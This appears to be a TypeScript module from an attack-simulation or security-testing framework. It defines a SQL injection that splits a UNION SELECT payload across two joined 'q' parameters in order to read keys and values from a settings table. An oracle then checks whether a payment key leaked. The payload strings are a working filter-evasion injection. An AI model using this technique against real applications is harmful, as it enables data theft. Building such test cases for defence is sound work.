import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { query } from '../../visitor/visitor.ts'

/** UNION split over two parameters that the application joins. */
export const sqlSplitParameters: Attack = defineAttack({
  id: 'sql-split-parameters',
  class: 'sql-injection',
  title: 'UNION split over two parameters that the application joins',
  cwe: 235,
  capec: 460,
  technique: 'T1190',
  preconditions: [],

  steps: ({ visitor }) => {
    const first = query({ q: "zz' UNION/*" })
    const second = query({ q: "*/SELECT 0,value,key,0,'' FROM settings--" }).slice(1)
    return visitor.get(`/search${first}&${second}`)
  },
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.paymentKey),
  twin: ({ visitor }) => visitor.get('/search?q=lantern&q=storm'),
})
